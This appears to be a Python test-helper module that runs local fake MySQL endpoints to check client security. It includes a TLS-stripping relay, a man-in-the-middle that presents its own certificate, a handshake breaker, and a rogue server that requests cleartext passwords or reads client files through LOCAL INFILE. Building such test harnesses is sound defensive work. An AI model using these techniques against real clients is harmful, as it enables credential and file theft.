"""Who may sit between a client and a MySQL server, or pretend to be one.

Relay listens; Stripper takes TLS out of the server's offer; Impostor ends the client's TLS with a certificate of its
own; Faltering breaks the handshake once. RogueServer asks a client for what none should give away.

Packets: three bytes of length, one of sequence number, content. Source: MySQL internals, "Connection Phase".
"""

import select
import socket
import ssl
import struct
import threading
from pathlib import Path

CLIENT_CONNECT_WITH_DB = 0x8
CLIENT_LOCAL_FILES = 0x80
CLIENT_PROTOCOL_41 = 0x200
CLIENT_SSL = 0x800
CLIENT_SECURE_CONNECTION = 0x8000
CLIENT_PLUGIN_AUTH = 0x80000
STATUS_AUTOCOMMIT = 2
UTF8MB4 = 45
LISTEN_SECONDS = 0.05
SECONDS = 30
BLOCK = 65536


def read_exactly(stream: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n:
        more = stream.recv(n - len(data))
        if not more:
            raise ConnectionError("the other side is gone")
        data += more
    return data


def read_packet(stream: socket.socket) -> bytes:
    """With its header."""
    header = read_exactly(stream, 4)
    return header + read_exactly(stream, int.from_bytes(header[:3], "little"))


def packet(number: int, content: bytes) -> bytes:
    return len(content).to_bytes(3, "little") + bytes([number]) + content


class Listener:
    """Serves each connection in a thread of its own until the `with` ends. Subclasses say how in serve()."""

    def __init__(self):
        self._stopped = threading.Event()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.settimeout(LISTEN_SECONDS)
        self._threads = [threading.Thread(target=self._accept, daemon=True)]
        self._lock = threading.Lock()
        self.port: int = self._listener.getsockname()[1]
        self.connections = 0
        self.from_client = b""  # all that clients sent
        self.from_server = b""

    def __enter__(self):
        self._threads[0].start()
        return self

    def __exit__(self, *_) -> None:
        self._stopped.set()
        for thread in self._threads:
            thread.join()
        self._listener.close()

    def serve(self, client: socket.socket) -> None:
        raise NotImplementedError

    def heard(self, data: bytes, from_client: bool) -> bytes:
        with self._lock:
            if from_client:
                self.from_client += data
            else:
                self.from_server += data
        return data

    def _accept(self) -> None:
        while not self._stopped.is_set():
            try:
                client, _ = self._listener.accept()
            except TimeoutError:
                continue
            self.connections += 1
            thread = threading.Thread(target=self._serve, args=(client,), daemon=True)
            self._threads.append(thread)
            thread.start()

    def _serve(self, client: socket.socket) -> None:
        client.settimeout(SECONDS)
        try:
            with client:
                self.serve(client)
        except OSError:
            pass  # one side is gone, or refused the other's certificate; the other learns it by our closing

    def relay(self, client: socket.socket, server: socket.socket) -> None:
        """Until one side ends the stream."""
        while not self._stopped.is_set():
            ready = [side for side in (client, server) if isinstance(side, ssl.SSLSocket) and side.pending()]
            readable = ready or select.select([client, server], [], [], LISTEN_SECONDS)[0]
            for side, other in ((client, server), (server, client)):
                if side in readable and (data := received(side)) is not None:
                    if not data:
                        return
                    other.sendall(self.heard(data, side is client))


def received(side: socket.socket) -> bytes | None:
    """What there is to read. None: what came was TLS's own, as a session's ticket, and more may never come unless the
    other side is heard meanwhile."""
    side.settimeout(0)
    try:
        return side.recv(BLOCK)
    except ssl.SSLWantReadError:
        return None
    finally:
        side.settimeout(SECONDS)


class Relay(Listener):
    """Hears everything and changes nothing."""

    def __init__(self, port: int):
        super().__init__()
        self.target = ("127.0.0.1", port)

    def serve(self, client: socket.socket) -> None:
        with socket.create_connection(self.target, SECONDS) as server:
            self.relay(client, server)


class Stripper(Relay):
    """Makes the client believe that the server does without TLS."""

    def serve(self, client: socket.socket) -> None:
        with socket.create_connection(self.target, SECONDS) as server:
            client.sendall(without_tls(self.heard(read_packet(server), False)))
            self.relay(client, server)


def without_tls(greeting: bytes) -> bytes:
    """The lower capabilities follow the version's zero byte, a thread's number and eight bytes of salt and one."""
    at = greeting.index(0, 5) + 1 + 4 + 8 + 1
    [capabilities] = struct.unpack_from("<H", greeting, at)
    assert capabilities & CLIENT_SSL, "the server offers no TLS, so there is nothing to take out"
    return greeting[:at] + struct.pack("<H", capabilities & ~CLIENT_SSL) + greeting[at + 2 :]


class Impostor(Relay):
    """Speaks TLS with the client as if it were the server, with another certificate, and hears it all in the clear."""

    def __init__(self, port: int, certificate: Path, key: Path):
        super().__init__(port)
        self._as_server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._as_server.load_cert_chain(certificate, key)
        self._as_client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._as_client.check_hostname = False
        self._as_client.verify_mode = ssl.CERT_NONE

    def serve(self, client: socket.socket) -> None:
        with socket.create_connection(self.target, SECONDS) as server:
            client.sendall(self.heard(read_packet(server), False))
            request = self.heard(read_packet(client), True)
            if len(request) != 36:
                return  # this client does without TLS
            server.sendall(request)
            with (
                self._as_server.wrap_socket(client, server_side=True) as inner,
                self._as_client.wrap_socket(server) as outer,
            ):
                self.relay(inner, outer)


class Faltering(Relay):
    """Breaks the first connection in the middle of TLS's handshake, with an RST or with an end of the stream."""

    def __init__(self, port: int, reset: bool):
        super().__init__(port)
        self._reset = reset

    def serve(self, client: socket.socket) -> None:
        is_first = self.connections == 1
        with socket.create_connection(self.target, SECONDS) as server:
            if not is_first:
                self.relay(client, server)
                return
            client.sendall(self.heard(read_packet(server), False))
            self.heard(read_packet(client), True)  # the wish for TLS
            record = read_exactly(client, 5)  # type, version, length: all that was sent must be read, or RST it is
            self.heard(record + read_exactly(client, int.from_bytes(record[3:])), True)
            if self._reset:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


class RogueServer(Listener):
    """Asks a client that logs in for its password in the clear (`ask` "password"), or, once it has let it in, for a
    file of the client's machine (`ask`: its path) in answer to whatever it says."""

    def __init__(self, ask: str, version: str = "8.0.31"):
        super().__init__()
        self._ask = ask
        self._version = version

    def serve(self, client: socket.socket) -> None:
        client.sendall(self._greeting())
        login = self.heard(read_packet(client), True)
        if self._ask == "password":
            client.sendall(packet(login[3] + 1, b"\xfemysql_clear_password\0"))
        else:
            client.sendall(packet(login[3] + 1, b"\0\0\0" + struct.pack("<HH", STATUS_AUTOCOMMIT, 0)))
        while True:
            said = self.heard(read_packet(client), True)
            client.sendall(packet(said[3] + 1, b"\xfb" + self._ask.encode()))

    def _greeting(self) -> bytes:
        offer = (
            CLIENT_CONNECT_WITH_DB
            | CLIENT_LOCAL_FILES
            | CLIENT_PROTOCOL_41
            | CLIENT_SECURE_CONNECTION
            | CLIENT_PLUGIN_AUTH
            | 1
        )
        return packet(
            0,
            b"\x0a"
            + self._version.encode()
            + b"\0"
            + struct.pack("<I", 7)
            + b"saltsalt\0"
            + struct.pack("<HBHHB", offer & 0xFFFF, UTF8MB4, STATUS_AUTOCOMMIT, offer >> 16, 21)
            + bytes(10)
            + b"saltsaltsalt\0"
            + b"mysql_native_password\0",
        )
